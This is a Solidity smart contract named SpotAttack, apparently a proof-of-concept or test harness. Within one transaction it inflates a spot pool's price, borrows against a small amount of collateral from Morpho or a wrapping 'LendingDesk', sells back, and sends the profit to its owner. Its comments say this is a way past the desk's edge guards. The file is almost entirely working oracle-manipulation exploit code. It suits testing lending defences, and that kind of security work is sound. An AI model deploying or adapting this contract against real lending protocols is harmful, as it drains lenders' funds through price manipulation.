// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IMorphoCore, MarketParams} from "./IMorphoCore.sol";
import {LendingDesk} from "./LendingDesk.sol";
import {SpotPool} from "./SpotPool.sol";

/// @notice Pumps the pool, borrows against a little collateral and sells back, all in one transaction: nobody can trade
/// against the pump, and no block ever shows the false price. Pays for itself with what its owner hands it.
contract SpotAttack {
    address public immutable owner;
    IMorphoCore public immutable morpho;
    SpotPool public immutable pool;

    error Attack_NotOwner(address caller);

    constructor(IMorphoCore morpho_, SpotPool pool_) {
        (owner, morpho, pool) = (msg.sender, morpho_, pool_);
        pool_.base().approve(address(pool_), type(uint256).max);
        pool_.quote().approve(address(pool_), type(uint256).max);
        pool_.base().approve(address(morpho_), type(uint256).max);
    }

    /// @notice Calls Morpho itself: the way that every edge guard is passed by.
    function borrowFromCore(MarketParams calldata p, uint256 collateral, uint256 pump, uint256 assets) external {
        uint256 bought = _pump(p, collateral, pump);
        morpho.borrow(p, assets, 0, address(this), address(this));
        _leave(bought);
    }

    /// @notice Borrows at the desk.
    function borrowFromDesk(LendingDesk desk, uint256 collateral, uint256 pump, uint256 assets) external {
        uint256 bought = _pump(desk.params(), collateral, pump);
        if (!morpho.isAuthorized(address(this), address(desk))) morpho.setAuthorization(address(desk), true);
        desk.borrow(assets);
        _leave(bought);
    }

    function _pump(MarketParams memory p, uint256 collateral, uint256 pump) private returns (uint256 bought) {
        if (msg.sender != owner) revert Attack_NotOwner(msg.sender);
        if (collateral > 0) morpho.supplyCollateral(p, collateral, address(this), "");
        return pool.swap(pool.quote(), pump);
    }

    function _leave(uint256 bought) private {
        pool.swap(pool.base(), bought);
        IERC20 money = pool.quote();
        money.transfer(owner, money.balanceOf(address(this)));
    }
}
